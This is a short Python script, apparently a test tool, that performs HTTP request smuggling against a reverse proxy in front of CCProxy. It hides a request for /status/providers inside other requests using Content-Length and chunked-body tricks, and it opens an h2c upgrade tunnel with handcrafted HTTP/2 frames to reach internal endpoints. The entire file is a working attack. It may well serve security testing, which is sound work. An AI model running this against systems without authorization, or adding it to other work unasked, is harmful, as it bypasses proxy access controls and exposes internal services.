"""What a stranger hides from a reverse proxy in front of CCProxy, as the body of another request or in a tunnel.
smuggle.py HOST PORT METHOD|UPGRADE: prints all that comes back."""
import socket
import struct
import sys

host, port, method = sys.argv[1], int(sys.argv[2]), sys.argv[3]
HIDDEN = b"GET /status/providers HTTP/1.1\r\nHost: localhost\r\n\r\n"
# Several: a proxy may send each over another of its connections.
LAST = b"GET /nowhere HTTP/1.1\r\nHost: localhost\r\n\r\n" * 7 + b"GET /nowhere HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def field(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def exchange(*parts):
    """Sends each part after some answer to the one before it, and returns all answers."""
    answers = b""
    with socket.create_connection((host, port), timeout=2) as connection:
        try:
            for part in parts:
                connection.sendall(part)
                answers += connection.recv(65536)
            while received := connection.recv(65536):
                answers += received
        except OSError:
            pass  # The connection stays open, or the peer has closed it in the middle.
    return answers


if method == "UPGRADE":
    request = b"".join(field(*f) for f in [(b":method", b"GET"), (b":path", b"/status/providers"), (b":scheme", b"http"), (b":authority", b"localhost")])
    tunnel = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 5, 3, request)
    for connection in (b"Upgrade, HTTP2-Settings", b"Upgrade"):
        upgrade = b"GET /nowhere HTTP/1.1\r\nHost: x\r\nConnection: %s\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n" % connection
        sys.stdout.buffer.write(exchange(upgrade, tunnel))
else:
    for target in (b"/status", b"/health/live", b"/metrics", b"/WEB-INF/web.xml", b"/%zz"):
        head = method.encode() + b" " + target + b" HTTP/1.1\r\nHost: localhost\r\n"
        sys.stdout.buffer.write(exchange(head + b"Content-Length: %d\r\n\r\n" % len(HIDDEN) + HIDDEN + LAST))
        chunks = b"4\r\n\r\n\r\n\r\n%x\r\n" % len(HIDDEN) + HIDDEN + b"\r\n0\r\n\r\n"
        sys.stdout.buffer.write(exchange(head + b"Transfer-Encoding: chunked\r\n\r\n" + chunks + LAST))
